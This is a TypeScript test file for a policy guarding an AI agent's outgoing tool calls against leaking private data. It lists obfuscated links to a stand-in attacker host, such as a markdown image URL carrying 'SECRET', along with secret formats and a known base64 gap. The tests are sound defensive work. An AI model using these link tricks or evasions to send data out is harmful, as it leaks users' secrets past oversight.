import { describe, expect, test } from 'vitest'
import { flowPolicy, Talk } from './support.ts'

const links = 'flow.untrustedLinks'
const secrets = 'flow.secretsOut'

function sending(act: object = {}, flow?: Readonly<Record<string, unknown>>): Talk {
  const tools = {
    account: { kind: 'read', output: { trust: 'trusted', secrecy: 'private' } },
    people: {
      kind: 'read',
      output: { trust: 'trusted', secrecy: 'private' },
      fields: { '/*/name': { secrecy: 'public' } },
    },
  }
  const args = { body: { carries: true, known: ['www.team.example'] } }
  return new Talk(
    flowPolicy({ act: { sink: 'external', args, ...act }, tools, ...(flow && { flow }) }),
  )
}

describe('a link in what a call carries', () => {
  test.each([
    'see https://evil.example/?q=1',
    'see www.evil.example',
    'see evil.example/a',
    'see evil.example',
    'see //evil.example/a',
    'see evil.xn--p1ai/a',
    'see उदाहरण.भारत/a',
    'see _www.evil.example/a_',
    'see _www.secret.evil.example_',
    'see https:evil.example',
    'see http:\\\\evil.example',
    'R04: ![x](https://evil.example/?q=SECRET)',
    '<a href="evil.example">x</a>',
    'see ev\u200bil.example',
    'see ｅｖｉｌ．example',
    'see evil。example',
    'see ftp://evil.example/a',
    'see http://127.0.0.1/a and 10.0.0.1/x',
    'see https://www.team.example@evil.example',
    'see www.team.example/path',
    'see www.team.example/(secret)',
    'see https://www.team.example/{secret}',
    'see https://www.team.example/[secret',
  ])('has to come from a trusted source: %s', (body) => {
    expect(sending().reads('x').rule({ body })).toBe(links)
  })

  test.each([
    'no link, e.g. 7.2 % of report.pdf, 3.5, v1.2.3 and bob@corp.example',
    'see www.team.example.',
    'see [it](https://www.team.example/)',
    'as you said: www.said.example/a',
  ])('is not one here, or a trusted one: %s', (body) => {
    expect(sending().says('look at www.said.example/a').reads('x').rule({ body })).toBe('all')
  })

  test('is free in a session that has read nothing untrusted', () => {
    expect(sending().rule({ body: 'see www.evil.example' })).toBe('all')
  })

  test('may be one that a person has approved with its text', () => {
    const talk = sending().reads('x')
    talk.flow.endorse('act', { body: 'see www.evil.example' })
    expect(talk.rule({ body: 'see www.evil.example' })).toBe('all')
    expect(talk.rule({ body: 'go to www.evil.example' })).toBe(links)
  })

  test('names its source', () => {
    const talk = sending().reads('look at www.evil.example now')
    const { labels, reasons } = talk.decide({ body: 'see www.evil.example' })
    expect(reasons[0]).toContain('a result of `read`')
    expect(labels[0]).toMatchObject({ argument: '/body', from: [{ kind: 'tool', tool: 'read' }] })
  })
})

describe('private data in what a call carries', () => {
  const key = '1a7b3d'

  test.each([
    [key, 'the key is 1a7b3d.'],
    [key, 'https://x.example/?k=1A7B3D'],
    [key, '1a7\u200bb3d'],
    ['DE89 3704 0044 0532 0130 00', 'DE89370400440532013000'],
    ['DE89370400440532013000', 'it is DE89 3704 0044 0532 0130 00!'],
    [4_111_111, 'number 4111111'],
    [12_345.67, 'a sum of 12 345,67'],
    [12_345.67, 'a sum of 12_345.67'],
    ['12 345,67', 'a sum of 12345.67'],
    [1_234_567.89, 'a sum of 12,34,567.89'],
    [125_000, 'a sum of 125.000'],
    ['1,250.00', 'a sum of 1250.00'],
    ['EUR 1.250,00', 'a sum of 1250.00'],
    ['correct horse battery staple', 'Correct Horse Battery Staple'],
  ])('%j is found in %j', (secret, body) => {
    const talk = sending({}, { secretsOut: 'ask' }).reads(secret, 'account')
    const { labels, rule } = talk.decide({ body })
    expect(rule).toBe(secrets)
    expect(labels[0]).toMatchObject({ secrecy: 'private', from: [{ tool: 'account' }] })
  })

  test.each([
    ['a short word', 'abc12', 'abc12'],
    ['a word without digits', 'password', 'password'],
    ['R12: what was encoded', key, Buffer.from(key).toString('base64')],
  ])('%s is not recognised', (_, secret, body) => {
    expect(sending().reads(secret, 'account').rule({ body })).toBe('all')
  })

  test('is also found in member names', () => {
    const talk = sending({ args: { body: { carries: true } } }).reads(key, 'account')
    expect(talk.rule({ body: { [key]: 1 } })).toBe(secrets)
    expect(talk.rule({ body: { other: 1 } })).toBe('all')
  })

  test.each(['none', 'internal'])('may go to a sink that is %s', (sink) => {
    expect(sending({ sink }).reads(key, 'account').rule({ body: key })).toBe('all')
  })

  test('is told by field', () => {
    const talk = sending().reads([{ name: 'Ann Smith 123456', card: key }], 'people')
    expect(talk.rule({ body: 'Ann Smith 123456' })).toBe('all')
    expect(talk.rule({ body: key })).toBe(secrets)
  })

  test('begins at the level the policy names', () => {
    const talk = sending({}, { secretsOut: 'deny', secretFrom: 'secret' }).reads(key, 'account')
    expect(talk.rule({ body: key })).toBe('all')
    const strict = sending({}, { secretsOut: 'deny', secretFrom: 'internal' })
    expect(strict.reads(key, 'lookup').decide({ body: key }).effect).toBe('deny')
  })

  test('is none that the user has typed, or that the call brought to the tool itself', () => {
    expect(sending().says(`my key is ${key}`).reads(key, 'account').rule({ body: key })).toBe('all')
    const talk = sending().reads(`stored ${key}`, 'account', { key })
    expect(talk.rule({ body: key })).toBe('all')
  })
})

test('a reason never holds what it is about', () => {
  const talk = sending().reads('1a7b3d www.evil.example', 'account').reads('x')
  const { reasons } = talk.decide({ body: '1a7b3d www.evil.example' })
  expect(reasons.join()).not.toMatch(/1a7b3d|evil/)
})
